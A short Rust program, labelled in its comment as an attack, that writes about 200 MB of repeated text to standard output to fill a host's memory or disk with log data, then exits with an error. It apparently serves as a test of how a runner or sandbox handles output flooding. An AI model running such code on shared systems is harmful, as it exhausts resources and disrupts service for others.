//! Attack: write 200 MB to stdout, to fill the host's memory or disk with
//! a log, then fail so that someone reads it.

use std::io::Write;

fn main() {
    let line = format!("{}\n", "flood ".repeat(1023 / 6));
    let mut out = std::io::stdout().lock();
    let mut written = 0;
    while written < 200_000_000 {
        out.write_all(line.as_bytes()).expect("write");
        written += line.len();
    }
    out.flush().expect("flush");
    eprintln!("wrote {written} bytes");
    std::process::exit(1);
}
